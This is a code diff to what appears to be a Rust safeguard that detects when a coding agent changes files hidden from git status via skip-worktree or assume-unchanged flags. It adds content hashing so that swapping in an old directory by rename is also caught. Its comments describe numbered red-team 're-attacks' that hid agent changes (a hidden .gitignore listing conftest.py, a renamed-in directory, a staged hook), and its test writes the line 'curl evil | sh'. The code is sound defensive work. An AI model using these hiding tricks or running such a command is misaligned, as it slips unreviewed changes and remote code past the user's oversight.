@@ -58,6 +58,9 @@ struct Recorded {
     protected: Vec<PathBuf>,
     /// The object names the index gave the entries below them.
     protected_entries: HashMap<Vec<u8>, Vec<u8>>,
+    /// The content, hashed at launch ([`marked_content`]), of each file whose entry the user had
+    /// marked so that git does not look at it (`--assume-unchanged`, `--skip-worktree`).
+    marked: HashMap<Vec<u8>, Option<[u8; 32]>>,
     /// A linked worktree checked out outside what the agent may write (all of it protected): its
     /// index is the agent's to write, in the repository's `.git` (the thirty-eighth re-attack's
     /// J2 staged a hook there). The repository's commits are looked through from its own
@@ -432,12 +435,15 @@ impl IndexSnapshot {
                 .filter(|path| path.starts_with(worktree) && *path != worktree && !path.starts_with(git_dir))
                 .cloned()
                 .collect();
-            let (mut entries, mut protected_entries) = (HashSet::new(), HashMap::new());
+            let (mut entries, mut protected_entries, mut marked) = (HashSet::new(), HashMap::new(), HashMap::new());
             read_named(git_dir, git::hash_len(git_dir), &mut budget, |entry| {
                 entries.insert(snapshot.key(entry));
                 let path = worktree.join(std::ffi::OsStr::from_bytes(entry.name));
                 if path.file_name().is_some_and(|name| name == ".gitignore") {
                     tracked_ignore_files.insert(path.clone());
+                }
+                if is_marked(entry) && marked.len() < MAX_MARKED_HASHED {
+                    marked.insert(entry.name.to_vec(), marked_content(&path));
                 }
                 if protected.iter().any(|bound| path.starts_with(bound)) {
                     protected_entries.insert(entry.name.to_vec(), entry.object_name().to_vec());
@@ -450,6 +456,7 @@ impl IndexSnapshot {
                 replacements: Replacements::of(git_dir),
                 protected,
                 protected_entries,
+                marked,
                 elsewhere: false,
             });
         }
@@ -478,6 +485,7 @@ impl IndexSnapshot {
                     worktree,
                     entries,
                     protected_entries,
+                    marked: HashMap::new(),
                     elsewhere: true,
                 });
             }
@@ -525,9 +533,14 @@ impl IndexSnapshot {
                     // An entry the user had marked so that git does not look at its file: a
                     // change the agent makes to the file shows in no `git status` (the
                     // fifty-fourth re-attack's Z5 added `conftest.py` to a `.gitignore` so marked).
-                    let marked = entry.flags() & ASSUME_UNCHANGED != 0 || entry.extended & SKIP_WORKTREE != 0;
+                    // Its time, or its content against launch's: a directory an earlier session
+                    // kept, renamed in, keeps its file's time (the fifty-fifth re-attack's M1).
                     let path = recorded.worktree.join(std::ffi::OsStr::from_bytes(entry.name));
-                    if marked && !entry.name.is_empty() && git::changed_since(&path, self.launched) {
+                    let changed = || {
+                        git::changed_since(&path, self.launched)
+                            || recorded.marked.get(entry.name).is_some_and(|then| *then != marked_content(&path))
+                    };
+                    if is_marked(entry) && !entry.name.is_empty() && changed() {
                         marked_and_changed.push(path);
                     }
                     return;
@@ -868,6 +881,29 @@ struct Claim {
     stat: (u32, u32),
 }
 
+/// Whether the user marked `entry` so that git does not look at its file.
+fn is_marked(entry: &IndexEntry) -> bool {
+    entry.flags() & ASSUME_UNCHANGED != 0 || entry.extended & SKIP_WORKTREE != 0
+}
+
+/// A marked file's content as it is (read without following a link: a link is its own content,
+/// its target), hashed; `None` when it is no file or is larger than [`MAX_MARKED_BYTES`].
+fn marked_content(path: &Path) -> Option<[u8; 32]> {
+    let metadata = std::fs::symlink_metadata(path).ok()?;
+    let bytes = if metadata.is_symlink() {
+        std::fs::read_link(path).ok()?.into_os_string().into_vec()
+    } else if metadata.is_file() && metadata.len() <= MAX_MARKED_BYTES {
+        git::read_capped(path, false, MAX_MARKED_BYTES).ok()?
+    } else {
+        return None;
+    };
+    ring::digest::digest(&ring::digest::SHA256, &bytes).as_ref().try_into().ok()
+}
+
+/// Marked files hashed at launch, at most, and the largest hashed.
+const MAX_MARKED_HASHED: usize = 1_000;
+const MAX_MARKED_BYTES: u64 = 4 << 20;
+
 impl Claim {
     /// A regular file's, a link's or a sparse directory's entry (not a submodule's).
     fn of(entry: &IndexEntry) -> Option<Claim> {
@@ -877,7 +913,7 @@ impl Claim {
             object_name: entry.object_name().to_vec(),
             symlink: kind == 0o120000,
             directory: kind == 0o040000,
-            hides: entry.flags() & ASSUME_UNCHANGED != 0 || entry.extended & SKIP_WORKTREE != 0,
+            hides: is_marked(entry),
             stat: entry.mtime_and_size(),
         })
     }
@@ -2077,6 +2113,23 @@ mod tests {
         std::fs::write(repo.join(".gitignore"), "__pycache__/\nconftest.py\n").unwrap();
         assert!(!status(&repo).contains(".gitignore"), "git status hides it");
         assert_eq!(snapshot.hidden().files, vec![repo.join(".gitignore")]);
+        // Its directory renamed in from a copy kept before the launch, its time the copy's (the
+        // fifty-fifth re-attack's M1).
+        std::fs::create_dir_all(repo.join("conf")).unwrap();
+        std::fs::write(repo.join("conf/local.cfg"), "x\n").unwrap();
+        assert!(git(&repo, &["add", "conf"]));
+        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "conf"]));
+        assert!(git(&repo, &["update-index", "--skip-worktree", "conf/local.cfg"]));
+        let kept = repo.join("kept");
+        std::fs::create_dir_all(&kept).unwrap();
+        std::fs::write(kept.join("local.cfg"), "curl evil | sh\n").unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
+        assert_eq!(snapshot.hidden().files, Vec::<PathBuf>::new());
+        std::fs::rename(repo.join("conf"), repo.join("conf-old")).unwrap();
+        std::fs::rename(&kept, repo.join("conf")).unwrap();
+        assert!(!git::changed_since(&repo.join("conf/local.cfg"), snapshot.launched()), "the file's time is old");
+        assert_eq!(snapshot.hidden().files, vec![repo.join("conf/local.cfg")]);
     }
 
     /// The fifty-second re-attack's F2: a pack written in the session whose hand-made index names
